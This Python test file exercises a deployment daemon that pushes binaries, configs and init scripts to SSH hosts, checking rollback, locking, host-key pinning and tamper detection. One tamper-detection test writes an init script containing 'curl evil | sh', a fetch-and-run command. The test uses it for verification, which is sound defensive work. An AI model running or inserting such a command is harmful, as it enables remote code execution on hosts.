"""Payloads on real hosts: each an sshd in a mount namespace of its own, with a service that is the
very file that was deployed. Whatever goes wrong leaves, or gives back, what was there."""

from __future__ import annotations

import base64
import getpass
import hashlib
import http.client
import json
import os
import shutil
import sys
import time
from collections.abc import Callable, Iterator, Mapping, Sequence
from concurrent.futures import Future, ThreadPoolExecutor
from contextlib import ExitStack, closing, contextmanager
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest

from swarmd.cli.client import Daemon as Client
from swarmd.ops.payload_holds import HOLD_S
from tests.daemon import Daemon, Response, running_daemon
from tests.parts import need
from tests.sshd import SshHost, running_sshd
from tests.swarms import running_swarm

KEY = "a-key-for-tests"
ADMIN = "/admin/api"
HEARTBEAT_S = 6.0
"""Longer than a Python takes to begin where much else runs."""
PREFIXES = ("", *(f"t{number}-" for number in range(14)))
"""Of the names that hosts go by: where tests share them, each knows them by names of its own, and
at addresses of its own. An sshd takes no more than sixteen."""
DEAD = b"#!/bin/sh\nexit 1\n"
"""A program that gives no sign of life."""
SERVICE = """#!/bin/sh
[ "$1" = swarm-drone ] && [ "$2" = restart ] || exit 64
cd {root} || exit 1
while [ -f hold ]; do sleep 0.05; done
[ ! -f pid ] || kill "$(cat pid)" 2>/dev/null
setsid ./swarm-drone </dev/null >/dev/null 2>&1 &
echo $! >pid
"""
PROGRAM = """#!{python} -IS
# {version}
import http.client, json, pathlib, time
me = json.loads((pathlib.Path(__file__).parent / "me.json").read_text())
while True:
    try:
        link = http.client.HTTPConnection(me["host"], me["port"], timeout=5)
        link.request("POST", "/api/v1/register", json.dumps(me["says"]))
        link.getresponse().read()
    except OSError:
        pass
    time.sleep(0.2)
"""


class Host(SshHost):
    def file(self, name: str = "swarm-drone") -> bytes:
        return super().file(name)

    def empty(self) -> None:
        """As a host that nothing was ever put on."""
        self.kill()
        for path in self.inside.iterdir():
            shutil.rmtree(path) if path.is_dir() else path.unlink()


@dataclass
class Operator:
    daemon: Daemon
    key: str

    @property
    def headers(self) -> dict[str, str]:
        return {"X-Admin-Key": self.key}

    def ask(self, method: str, path: str, body: object = None, **more: Any) -> Response:
        where = f"{ADMIN}{path}"
        return self.daemon.request(
            method, where, body, surface="buildadmin", headers=self.headers, timeout_s=180, **more
        )

    def good(self, method: str, path: str, body: object = None) -> Any:
        answer = self.ask(method, path, body)
        assert answer.status in (200, 201), answer.body
        return answer.json

    def register(self, version: str, content: bytes, sort: str = "drone_binary") -> str:
        text = base64.b64encode(content).decode()
        body = {"type": sort, "version": version, "content": text}
        self.good("POST", "/payloads", body)
        return version

    def deploy(self, version: str, drone: str, sort: str = "drone_binary") -> Response:
        return self.ask("POST", f"/payloads/{sort}/{version}/deploy", {"drone": drone})

    def roll(self, version: str, drones: Sequence[str] | None, **more: object) -> Any:
        path = f"/payloads/drone_binary/{version}/rolling-deploy"
        return self.good("POST", path, {"drones": drones, **more})

    def place(self, drone: str, sort: str = "drone_binary") -> tuple[str | None, str]:
        place = self.good("GET", "/payloads/status")["drones"][drone][sort]
        return place["version"], place["status"]

    def register_drone(self, says: Mapping[str, Any]) -> None:
        answer = self.daemon.request("POST", "/api/v1/register", says, surface="buildswarm")
        assert answer.status == 200, answer.body

    def log(self, drone: str, sort: str = "drone_binary") -> list[tuple[str, str]]:
        """Steps and how they ended, the oldest first."""
        rows = self.good("GET", f"/payloads/{sort}/deploy-log?drone={drone}")["history"]
        return [(row["action"], row["status"]) for row in reversed(rows)]

    def until(self, what: Callable[[], bool], timeout_s: float = 90) -> None:
        deadline = time.monotonic() + timeout_s
        while not what():
            assert time.monotonic() < deadline
            time.sleep(0.05)


@contextmanager
def running_host(folder: Path, root: Path, name: str, mount: str) -> Iterator[Host]:
    within = ("unshare", "--mount", "--propagation", "private", "sh", "-c", f'{mount}; exec "$@"')
    path = f"{root}/bin:/usr/sbin:/usr/bin:/sbin:/bin"
    # The first address is the one that it has anyway.
    others = tuple(f"ListenAddress {address_of(prefix)}" for prefix in PREFIXES[1:])
    with running_sshd(
        folder / f"ssh-{name}", options=others, env={"PATH": path}, within=(*within, "sh")
    ) as sshd:
        host = Host(name, sshd, root)
        try:
            yield host
        finally:
            if sshd.process is not None:
                host.kill()


@dataclass
class Estate:
    operator: Operator
    hosts: Mapping[str, Host]

    def prepare(self) -> None:
        address, port = self.operator.daemon.address, self.operator.daemon.ports["buildswarm"]
        for host in self.hosts.values():
            says = {"id": f"id-{host.name}", "name": host.name, "ip": host.sshd.host}
            host.write("me.json", json.dumps({"host": address, "port": port, "says": says}))
            host.write("bin/rc-service", SERVICE.format(root=host.root), 0o755)
            self.operator.register_drone(says)

    def anew(self, prefix: str) -> Estate:
        """The same hosts, emptied, as drones that nobody knows yet."""
        hosts = {
            f"{prefix}{host.name}": replace(host, name=f"{prefix}{host.name}")
            for host in self.hosts.values()
        }  # fmt: skip
        for host in hosts.values():
            host.empty()
        estate = Estate(self.operator, hosts)
        estate.prepare()
        return estate

    def program(self, version: str) -> bytes:
        return PROGRAM.format(python=sys.executable, version=version).encode()


@contextmanager
def running_hosts(
    folder: Path, names: Sequence[str],
    mount: str = "mount --bind {own} {root}",
) -> Iterator[dict[str, Host]]:  # fmt: skip
    """Each takes the same key: that of the first."""
    root = folder / "root"
    root.mkdir()
    with ExitStack() as stack:
        hosts: dict[str, Host] = {}
        for name in names:
            (own := folder / f"own-{name}").mkdir()
            how = mount.format(own=own, root=root)
            hosts[name] = stack.enter_context(running_host(folder, root, name, how))
        key = client_key(hosts).with_suffix(".pub").read_bytes()
        for host in hosts.values():
            (host.sshd.folder / "client.pub").write_bytes(key)
        yield hosts


def address_of(prefix: str) -> str:
    return f"127.0.0.{1 + PREFIXES.index(prefix)}"


def client_key(hosts: Mapping[str, Host]) -> Path:
    return next(iter(hosts.values())).sshd.folder / "client"


def settings_of(folder: Path, hosts: Mapping[str, Host], pin_first: bool) -> dict[str, Any]:
    """Of daemons that reach these hosts."""
    root = folder / "root"
    known = folder / "known_hosts"
    known.write_text("".join(
        f"[{address_of(prefix)}]:{host.sshd.port} {host.sshd.host_key()}\n"
        for prefix in PREFIXES for host in hosts.values()
    ))  # fmt: skip
    ssh: dict[str, object] = {"key_file": str(client_key(hosts)), "user": getpass.getuser()}
    ssh |= {"pin_first": True} if pin_first else {"known_hosts": str(known)}
    payloads = {
        "binary": str(root / "swarm-drone"), "init_script": str(root / "init"),
        "config": str(root / "config.json"), "portage_config": str(root / "binhost.conf"),
        "heartbeat_s": HEARTBEAT_S,
    }  # fmt: skip
    elsewhere = {
        f"{prefix}{name}": f"{address_of(prefix)}:{host.sshd.port}"
        for prefix in PREFIXES for name, host in hosts.items()
    }  # fmt: skip
    return {
        "jobs": {"executor": False}, "care": {"enabled": False}, "ssh": ssh,
        "ssh__hosts": elsewhere, "payloads": payloads,
    }  # fmt: skip


def settle(operator: Operator, hosts: Mapping[str, Host]) -> Estate:
    """The drones are known, and what runs on their hosts knows the daemon."""
    operator.until(lambda: operator.ask("GET", "/payloads").status == 200)
    estate = Estate(operator, hosts)
    estate.prepare()
    return estate


@contextmanager
def running_estate(
    folder: Path, names: Sequence[str], *,
    mount: str = "mount --bind {own} {root}", pin_first: bool = False,
) -> Iterator[Estate]:  # fmt: skip
    with (
        running_hosts(folder, names, mount) as hosts,
        running_daemon(
            folder / "node", environment={"ADMIN_KEY": KEY},
            **settings_of(folder, hosts, pin_first),
        ) as daemon,
    ):  # fmt: skip
        yield settle(Operator(daemon, KEY), hosts)


@pytest.fixture(scope="module")
def logs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Where hosts that tests share log to."""
    return tmp_path_factory.mktemp("logs")


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory, logs: Path) -> Iterator[Estate]:
    need("sshd", "netns")
    # Where the machine keeps a journal, these hosts have none of it.
    mount = (
        f"mount --bind {{own}} {{root}}; mount --bind {logs} /var/log;"
        " [ ! -d /run/log ] || mount -t tmpfs none /run/log"
    )
    folder, names = tmp_path_factory.mktemp("hosts"), ("one", "two", "three")
    with (
        running_estate(folder, names, mount=mount) as estate,
    ):
        yield estate


@pytest.fixture
def estate(shared: Estate, prefixes: Iterator[str]) -> Estate:
    """Three hosts with nothing on them, and a daemon that knows versions from before."""
    return shared.anew(next(prefixes))


@pytest.fixture(scope="module")
def prefixes() -> Iterator[str]:
    return iter(PREFIXES[1:])


@pytest.fixture
def own(tmp_path: Path) -> Iterator[Estate]:
    """Hosts and a daemon that no other test has to do with."""
    need("sshd", "netns")
    with running_estate(tmp_path, ("one", "two", "three")) as estate:
        yield estate


@pytest.fixture
def single(tmp_path: Path) -> Iterator[Estate]:
    """One host whose keys are known."""
    need("sshd", "netns")
    with running_estate(tmp_path, ("one",)) as estate:
        yield estate


@pytest.fixture
def small(tmp_path: Path) -> Iterator[Estate]:
    """One host, whose disk holds a megabyte."""
    need("sshd", "netns")
    mount = "mount -t tmpfs -o size=1m none {root}"
    with running_estate(tmp_path, ("one",), mount=mount) as estate:
        yield estate


@pytest.fixture
def pinning(tmp_path: Path) -> Iterator[Estate]:
    """One host of which nothing is known before."""
    need("sshd", "netns")
    with running_estate(tmp_path, ("one",), pin_first=True) as estate:
        yield estate


def test_a_roll_goes_on_where_it_is_well_and_turns_back_where_it_is_not(own: Estate) -> None:
    operator, hosts, estate = own.operator, own.hosts, own
    first = operator.register("1", estate.program("1"))
    said = operator.roll(first, ["one", "two", "three"])
    assert (said["status"], said["success_count"]) == ("ok", 3), said
    assert {host.file() for host in hosts.values()} == {estate.program("1")}
    assert operator.log("one") == [(s, "success") for s in ("deploy", "restart", "health")]
    # Two is on another file system than one, and is where its service does not come back.
    second = operator.register("2", estate.program("2"))
    hosts["two"].write("bin/rc-service", "#!/bin/sh\necho it is stuck >&2\nexit 3\n", 0o755)
    said = operator.roll(second, ["one", "two", "three"])
    assert (said["status"], said["success_count"], said["fail_count"]) == ("partial", 1, 1)
    assert said["skipped"] == ["three"] and said["results"]["one"]["success"]
    assert "it is stuck" in said["results"]["two"]["message"]
    assert [hosts[name].file() == estate.program(v) for name, v in
            (("one", "2"), ("two", "1"), ("three", "1"))] == [True] * 3  # fmt: skip
    assert [operator.place(name) for name in ("one", "two", "three")] == [
        ("2", "deployed"), ("1", "deployed"), ("1", "deployed"),
    ]  # fmt: skip
    assert ("rollback", "success") in operator.log("two")
    # All that are outdated are the other two, once it is well again.
    hosts["two"].write("bin/rc-service", SERVICE.format(root=hosts["two"].root), 0o755)
    said = operator.roll(second, None)
    assert said["status"] == "ok" and sorted(said["results"]) == ["three", "two"]
    matrix = operator.good("GET", "/payloads/status")
    assert matrix["outdated_count"] == 0 and all(
        place["drone_binary"]["is_current"] for place in matrix["drones"].values()
    )


def test_a_program_that_gives_no_sign_of_life_is_rolled_back(estate: Estate) -> None:
    operator, (one, two, _) = estate.operator, estate.hosts
    host = estate.hosts[one]
    operator.roll(operator.register("1", estate.program("1")), [one, two])
    dead = operator.register("dead", DEAD)
    said = operator.roll(dead, [one, two])
    assert said["status"] == "partial" and said["skipped"] == [two]
    assert f"no sign of life within {HEARTBEAT_S:g} s" in said["results"][one]["message"]
    assert host.file() == estate.program("1") and operator.place(one) == ("1", "deployed")
    assert host.names() >= {"swarm-drone"} and not [n for n in host.names() if n[0] == "."]
    assert operator.log(one)[3:] == [
        ("deploy", "success"), ("restart", "success"), ("health", "failed"),
        ("rollback", "success"), ("restart", "success"), ("health", "success"),
    ]  # fmt: skip
    # Without that it stays where it is, and the roll goes on.
    said = operator.roll(dead, [one, two], rollback_on_fail=False)
    assert (said["status"], said["fail_count"], said["skipped"]) == ("partial", 2, [])
    assert host.file() == DEAD and operator.place(one) == ("dead", "deployed")


def test_two_rolls_of_a_type_are_not_at_once(estate: Estate) -> None:
    operator, (one, two, _) = estate.operator, estate.hosts
    dead, config = operator.register("dead", DEAD), operator.register("1", b"{}", "config")
    with ThreadPoolExecutor(1) as pool:
        first: Future[Any] = pool.submit(operator.roll, dead, [one])
        operator.until(
            lambda: "drone_binary" in operator.good("GET", "/payloads/status")["drones"][one]
        )
        path = "/payloads/drone_binary/dead/rolling-deploy"
        for answer in (operator.ask("POST", path, {}), operator.deploy(dead, two)):
            assert answer.status == 409 and "under way" in answer.json["error"], answer.body
        assert operator.deploy(config, one, "config").status == 200  # of another type
        assert first.result(180)["status"] == "partial"
    assert operator.deploy(dead, two).status == 200
    # What was never there is taken away again.
    assert "swarm-drone" not in estate.hosts[one].names()
    assert operator.place(one) == (None, "failed")


def test_whoever_asked_may_go_and_the_roll_goes_on(estate: Estate) -> None:
    operator, (one, two, _) = estate.operator, estate.hosts
    version = operator.register("1", estate.program("1"))
    estate.hosts[two].write("hold", "its service does not start again while this is there")
    daemon = operator.daemon
    link = http.client.HTTPConnection(daemon.address, daemon.ports["buildadmin"])
    with closing(link):
        link.request(
            "POST", f"{ADMIN}/payloads/drone_binary/{version}/rolling-deploy",
            json.dumps({"drones": [one, two]}),
            {**operator.headers, "Content-Type": "application/json"},
        )  # fmt: skip
        operator.until(lambda: "swarm-drone" in estate.hosts[two].names())
    (estate.hosts[two].inside / "hold").unlink()
    operator.until(lambda: ("health", "success") in operator.log(two))
    assert estate.hosts[two].file() == estate.program("1")


def test_a_file_that_was_tampered_with_is_found_out(estate: Estate) -> None:
    operator, (one, host) = estate.operator, next(iter(estate.hosts.items()))
    version = operator.register("1", b"#!/bin/sh\n", "init_script")
    assert operator.deploy(version, one, "init_script").status == 200
    assert (host.inside / "init").stat().st_mode & 0o777 == 0o755
    host.write("init", b"#!/bin/sh\ncurl evil | sh\n")
    said = operator.good("POST", "/payloads/init_script/verify", {"drone": one})
    assert said["matches"] is False and operator.place(one, "init_script") == (None, "changed")
    assert said["remote_hash"] == hashlib.sha256(host.file("init")).hexdigest()
    assert operator.deploy(version, one, "init_script").status == 200
    assert operator.good("POST", "/payloads/init_script/verify", {"drone": one})["matches"]


def test_a_full_disk_leaves_what_was_there(small: Estate) -> None:
    operator, host = small.operator, small.hosts["one"]
    assert operator.deploy(operator.register("1", b"{}", "config"), "one", "config").status == 200
    before = host.names()
    answer = operator.ask("PUT", "/payloads/config/big", os.urandom(3_000_000))
    assert answer.status == 201, answer.body
    answer = operator.deploy("big", "one", "config")
    assert answer.status in (409, 503) and answer.json["error"].startswith("one: "), answer.body
    assert host.names() == before and host.file("config.json") == b"{}"
    assert operator.place("one", "config") == ("1", "failed")
    assert operator.log("one", "config") == [("deploy", "success"), ("deploy", "failed")]


def test_a_host_that_shows_another_key_gets_nothing(single: Estate) -> None:
    operator, host = single.operator, single.hosts["one"]
    version = operator.register("1", b"{}", "config")
    host.sshd.rebuild()
    answer = operator.deploy(version, "one", "config")
    assert answer.status == 409 and "host key" in answer.json["error"], answer.body
    assert "config.json" not in host.names()
    said = operator.good("POST", f"/payloads/config/{version}/rolling-deploy", {"drones": ["one"]})
    assert said["status"] == "partial" and "host key" in said["results"]["one"]["message"]


def test_the_first_key_is_kept_by_the_swarm_until_somebody_has_it_forgotten(
    pinning: Estate,
) -> None:
    operator, host = pinning.operator, pinning.hosts["one"]
    version = operator.register("1", b"{}", "config")
    assert operator.deploy(version, "one", "config").status == 200
    host.sshd.rebuild()
    answer = operator.deploy(version, "one", "config")
    assert answer.status == 409 and "host key" in answer.json["error"], answer.body
    assert operator.good("DELETE", "/drones/one/host-key")["forgotten"] is True
    assert operator.good("DELETE", "/drones/one/host-key")["forgotten"] is False
    host.write("me.json", "{}")  # its directory is a new one, too
    assert operator.deploy(version, "one", "config").status == 200


def test_two_hundred_megabytes_arrive_whole(estate: Estate) -> None:
    operator, (one, host) = estate.operator, next(iter(estate.hosts.items()))
    data = os.urandom(1_000_000) * 200
    answer = operator.ask("PUT", "/payloads/drone_binary/big?notes=large", data)
    assert answer.status == 201, answer.body
    assert answer.json["version"]["hash"] == f"sha256:{hashlib.sha256(data).hexdigest()}"
    assert operator.deploy("big", one).status == 200
    assert (host.inside / "swarm-drone").stat().st_size == len(data)
    assert operator.good("POST", "/payloads/drone_binary/verify", {"drone": one})["matches"]


def test_any_node_does_it_and_all_know(tmp_path: Path) -> None:
    """One node's deployment is in the others' way, and the key that one saw is what all believe.
    The one that deploys is killed in the middle: nothing half done is left on the host, and its
    roll comes to its end elsewhere."""
    need("sshd", "netns")
    with ExitStack() as stack:
        hosts = stack.enter_context(running_hosts(tmp_path, ("one", "two", "three")))
        settings = settings_of(tmp_path, hosts, pin_first=True)
        swarm = stack.enter_context(running_swarm(tmp_path / "swarm", 3, first=91, **settings))
        operators = [
            Operator(node.daemon, Client(node.data_dir).get("/api/v1/admin-key")["admin_key"])
            for node in (swarm.leader(), *swarm.followers())
        ]
        estate = settle(operators[0], hosts)
        host, (_, other, conductor) = hosts["one"], operators
        first = conductor.register("1", b"{}", "config")
        assert conductor.deploy(first, "one", "config").status == 200
        assert other.place("one", "config") == ("1", "deployed")
        (row,) = other.good("GET", "/payloads/config/deploy-log")["history"]
        (via,) = [node.name for node in swarm.nodes if node.daemon is conductor.daemon]
        assert row["deployed_via"] == via
        # It never saw the host, which is another one by now.
        host.sshd.rebuild()
        answer = other.deploy(first, "one", "config")
        assert answer.status == 409 and "host key" in answer.json["error"], answer.body
        assert other.good("DELETE", "/drones/one/host-key")["forgotten"] is True
        assert conductor.deploy(first, "one", "config").status == 200
        big, program = os.urandom(1_000_000) * 100, other.register("1", estate.program("1"))
        assert other.ask("PUT", "/payloads/config/big", big).status == 201
        hosts["two"].write("hold", "its service does not start again while this is there")
        with ThreadPoolExecutor(2) as pool:
            rolled = pool.submit(conductor.roll, program, ["two", "three"])
            other.until(lambda: "swarm-drone" in hosts["two"].names())
            lost = pool.submit(conductor.deploy, "big", "one", "config")
            other.until(lambda: any(name.endswith(".new") for name in host.names()))
            answer = other.deploy(first, "one", "config")
            assert answer.status == 409 and "under way" in answer.json["error"], answer.body
            conductor.daemon.kill()
            (hosts["two"].inside / "hold").unlink()
            for gone in (lost, rolled):
                with pytest.raises((OSError, http.client.HTTPException)):
                    gone.result(180)
        assert host.file("config.json") == b"{}"
        assert other.place("one", "config") == ("1", "deploying")
        said = other.good("POST", "/payloads/config/verify", {"drone": "one"})
        assert said["matches"] is True and other.place("one", "config") == ("1", "deployed")
        # What it had sent is in the way until the next one comes.
        assert [name for name in host.names() if name.endswith(".new")]
        took_place = (hosts["two"].inside / "swarm-drone").stat().st_ino
        other.until(lambda: other.deploy(first, "one", "config").status == 200, HOLD_S + 90)
        assert not [name for name in host.names() if name.endswith(".new")]
        # Its roll has another node by now, and each host the program once.
        other.until(lambda: ("health", "success") in other.log("three"), HOLD_S + 90)
        assert {hosts[name].file() for name in ("two", "three")} == {estate.program("1")}
        assert (hosts["two"].inside / "swarm-drone").stat().st_ino == took_place
        assert not {"swarm-drone.previous"} & (hosts["two"].names() | hosts["three"].names())
        assert [other.place(name) for name in ("two", "three")] == [("1", "deployed")] * 2
        history = other.good("GET", "/payloads/drone_binary/deploy-log?drone=three")["history"]
        assert via not in {row["deployed_via"] for row in history}
        said = other.daemon.request("GET", "/api/v1/events?type=control", surface="buildswarm")
        told = [event["message"] for event in reversed(said.json["events"])]
        assert [words for words in told if "drone_binary" in words and "roll" in words] == [
            "drone_binary: roll begun", "drone_binary 1: roll taken over",
            "drone_binary: roll ended",
        ]  # fmt: skip


def test_a_hosts_log_is_its_own(estate: Estate, logs: Path) -> None:
    operator, (one, *_) = estate.operator, estate.hosts
    (logs / "messages").write_text("".join(
        f"Feb 12 15:30:01 one swarm-drone[{n}]: \x1b[2J{'é' * (n % 200)}\n" for n in range(3000)
    ))  # fmt: skip
    path = f"/drones/{one}/syslog"
    lines = operator.good("GET", f"{path}?lines=3")["lines"]
    assert [line[:44] for line in lines] == [
        f"Feb 12 15:30:01 one swarm-drone[{n}]: \ufffd[2Jéé"[:44] for n in (2997, 2998, 2999)
    ]
    assert len(operator.good("GET", path)["lines"]) == 100
    assert len(operator.good("GET", f"{path}?lines=9999999")["lines"]) == 2000
    (logs / "messages").unlink()
    answer = operator.ask("GET", path)
    assert answer.status == 503 and "no log that this account may read" in answer.json["error"]
